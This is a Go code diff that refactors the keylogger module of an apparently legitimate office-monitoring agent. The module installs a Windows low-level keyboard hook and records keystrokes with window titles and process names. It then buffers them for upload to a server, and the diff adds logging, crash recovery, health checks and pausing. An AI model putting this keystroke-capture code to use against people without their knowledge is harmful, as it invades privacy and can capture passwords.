@@ -4,21 +4,25 @@
 package monitoring
 
 import (
-	"bytes"
-	"encoding/json"
+	"context"
+	"errors"
 	"fmt"
-	"log"
-	"net/http"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"syscall"
 	"time"
 	"unsafe"
 
 	"github.com/ctolnik/Office-Monitor/agent/buffer"
+	"github.com/ctolnik/Office-Monitor/agent/logger"
+	"github.com/ctolnik/Office-Monitor/agent/supervisor"
+	"go.uber.org/zap"
 	"golang.org/x/sys/windows"
 )
 
+var keyLog = logger.For("keylogger")
+
 const (
 	WH_KEYBOARD_LL = 13
 	WM_KEYDOWN     = 0x0100
@@ -56,7 +60,6 @@ type MSG struct {
 }
 
 type Keylogger struct {
-	serverURL          string
 	computerName       string
 	username           string
 	enabled            bool
@@ -70,8 +73,12 @@ type Keylogger struct {
 	wg                 sync.WaitGroup
 	mu                 sync.RWMutex
 	currentBuffer      *KeylogBuffer
-	client             *http.Client
 	eventBuffer        *buffer.EventBuffer
+	// paused drops keystrokes while the resource governor holds the agent back
+	paused atomic.Bool
+	// hooked is set while the hook message loop runs
+	hooked atomic.Bool
+	ctx    context.Context
 }
 
 type KeylogBuffer struct {
@@ -95,14 +102,13 @@ type KeylogEvent struct {
 
 var globalKeylogger *Keylogger
 
-func NewKeylogger(serverURL, computerName, username string, monitoredProcesses []string, bufferSizeChars, sendIntervalMin int, eventBuffer *buffer.EventBuffer) *Keylogger {
+func NewKeylogger(computerName, username string, monitoredProcesses []string, bufferSizeChars, sendIntervalMin int, eventBuffer *buffer.EventBuffer) *Keylogger {
 	procMap := make(map[string]bool)
 	for _, proc := range monitoredProcesses {
 		procMap[strings.ToLower(proc)] = true
 	}
 
 	k := &Keylogger{
-		serverURL:          serverURL,
 		computerName:       computerName,
 		username:           username,
 		enabled:            true,
@@ -111,7 +117,6 @@ func NewKeylogger(serverURL, computerName, username string, monitoredProcesses [
 		sendIntervalMin:    sendIntervalMin,
 		hookReady:          make(chan error, 1),
 		stopChan:           make(chan struct{}),
-		client:             &http.Client{Timeout: 30 * time.Second},
 		currentBuffer: &KeylogBuffer{
 			StartTime: time.Now(),
 		},
@@ -122,24 +127,33 @@ func NewKeylogger(serverURL, computerName, username string, monitoredProcesses [
 	return k
 }
 
-func (k *Keylogger) Start() error {
-	log.Printf("Keylogger starting (monitoring: %v, buffer: %d chars, interval: %dm)",
-		k.getMonitoredProcessNames(), k.bufferSizeChars, k.sendIntervalMin)
+// Name identifies the monitor in the supervisor and the heartbeat
+func (k *Keylogger) Name() string { return "keylogger" }
+
+func (k *Keylogger) Start(ctx context.Context) error {
+	k.ctx = ctx
+	keyLog.Info("Keylogger starting",
+		zap.Strings("processes", k.getMonitoredProcessNames()),
+		zap.Int("buffer_chars", k.bufferSizeChars),
+		zap.Int("send_interval_min", k.sendIntervalMin))
 
 	k.wg.Add(2)
 	go k.hookKeyboard()
-	go k.sendWorker()
+	go func() {
+		defer supervisor.Recover(ctx)
+		k.sendWorker()
+	}()
 
 	if err := <-k.hookReady; err != nil {
 		return fmt.Errorf("failed to start keylogger: %w", err)
 	}
 
-	log.Println("Keylogger started successfully")
+	keyLog.Info("Keylogger started")
 	return nil
 }
 
 func (k *Keylogger) Stop() {
-	log.Println("Stopping Keylogger...")
+	keyLog.Info("Stopping Keylogger")
 	close(k.stopChan)
 
 	if k.hookThreadID != 0 {
@@ -159,7 +173,15 @@ func (k *Keylogger) Stop() {
 	k.wg.Wait()
 
 	k.flushBuffer()
-	log.Println("Keylogger stopped")
+	keyLog.Info("Keylogger stopped")
+}
+
+// Health fails when the keyboard hook is gone
+func (k *Keylogger) Health() error {
+	if !k.hooked.Load() {
+		return errors.New("keyboard hook not installed")
+	}
+	return nil
 }
 
 func (k *Keylogger) getMonitoredProcessNames() []string {
@@ -172,6 +194,18 @@ func (k *Keylogger) getMonitoredProcessNames() []string {
 
 func (k *Keylogger) hookKeyboard() {
 	defer k.wg.Done()
+	defer k.hooked.Store(false)
+	defer func() {
+		if r := recover(); r != nil {
+			err := fmt.Errorf("panic in keyboard hook: %v", r)
+			// Start may still be waiting for the hook
+			select {
+			case k.hookReady <- err:
+			default:
+			}
+			supervisor.ReportCrash(k.ctx, err)
+		}
+	}()
 
 	threadID, _, _ := procGetCurrentThreadId.Call()
 	k.hookThreadID = uint32(threadID)
@@ -201,8 +235,9 @@ func (k *Keylogger) hookKeyboard() {
 		0,
 	)
 
+	k.hooked.Store(true)
 	k.hookReady <- nil
-	log.Println("Keyboard hook installed successfully")
+	keyLog.Info("Keyboard hook installed")
 
 	for {
 		ret, _, _ := procGetMessage.Call(
@@ -213,7 +248,12 @@ func (k *Keylogger) hookKeyboard() {
 		)
 
 		if ret == 0 || msg.Message == WM_QUIT {
-			log.Println("Keyboard hook message loop exiting")
+			keyLog.Info("Keyboard hook message loop exiting")
+			select {
+			case <-k.stopChan:
+			default:
+				supervisor.ReportCrash(k.ctx, errors.New("keyboard hook message loop exited"))
+			}
 			return
 		}
 
@@ -226,7 +266,7 @@ func keyboardHookProc(nCode int, wParam uintptr, lParam uintptr) uintptr {
 	if nCode >= 0 && globalKeylogger != nil {
 		if wParam == WM_KEYDOWN || wParam == WM_SYSKEYDOWN {
 			kbdStruct := (*KBDLLHOOKSTRUCT)(unsafe.Pointer(lParam))
-			globalKeylogger.handleKeyPress(kbdStruct.VkCode)
+			globalKeylogger.safeHandleKeyPress(kbdStruct.VkCode)
 		}
 	}
 
@@ -234,7 +274,31 @@ func keyboardHookProc(nCode int, wParam uintptr, lParam uintptr) uintptr {
 	return ret
 }
 
+// safeHandleKeyPress keeps a panic from unwinding through the Windows
+// callback, which would take the whole agent down
+func (k *Keylogger) safeHandleKeyPress(vkCode uint32) {
+	defer supervisor.Recover(k.ctx)
+	k.handleKeyPress(vkCode)
+}
+
+// SetPaused stops or resumes recording; text typed so far is sent on pause
+func (k *Keylogger) SetPaused(paused bool) {
+	if k.paused.Swap(paused) == paused {
+		return
+	}
+	if paused {
+		k.flushBuffer()
+		keyLog.Warn("Keylogger paused")
+	} else {
+		keyLog.Info("Keylogger resumed")
+	}
+}
+
 func (k *Keylogger) handleKeyPress(vkCode uint32) {
+	if k.paused.Load() {
+		return
+	}
+
 	windowTitle := k.getForegroundWindowTitle()
 	processName := k.getForegroundProcessName()
 
@@ -409,9 +473,12 @@ func (k *Keylogger) sendBuffer() {
 	}
 
 	if err := k.sendEvent(event); err != nil {
-		log.Printf("Failed to send keylog event: %v", err)
+		keyLog.Error("Failed to send keylog event", zap.Error(err))
 	} else {
-		log.Printf("Sent keylog: %s - %d keys in %ds", event.ProcessName, event.KeyCount, duration)
+		keyLog.Debug("Sent keylog",
+			zap.String("process", event.ProcessName),
+			zap.Int("keys", event.KeyCount),
+			zap.Int("seconds", duration))
 	}
 }
 
@@ -425,27 +492,8 @@ func (k *Keylogger) flushBuffer() {
 }
 
 func (k *Keylogger) sendEvent(event KeylogEvent) error {
-	// Use buffer if available (offline-ready)
-	if k.eventBuffer != nil {
-		return k.eventBuffer.Add("keyboard", event)
-	}
-
-	// Fallback to direct send
-	data, err := json.Marshal(event)
-	if err != nil {
-		return err
-	}
-
-	url := fmt.Sprintf("%s/api/keyboard/event", k.serverURL)
-	resp, err := k.client.Post(url, "application/json", bytes.NewReader(data))
-	if err != nil {
-		return err
+	if k.eventBuffer == nil {
+		return errNoEventBuffer
 	}
-	defer resp.Body.Close()
-
-	if resp.StatusCode != http.StatusOK && resp.StatusCode != http.StatusCreated {
-		return fmt.Errorf("server returned status %d", resp.StatusCode)
-	}
-
-	return nil
+	return k.eventBuffer.Add("keyboard", event)
 }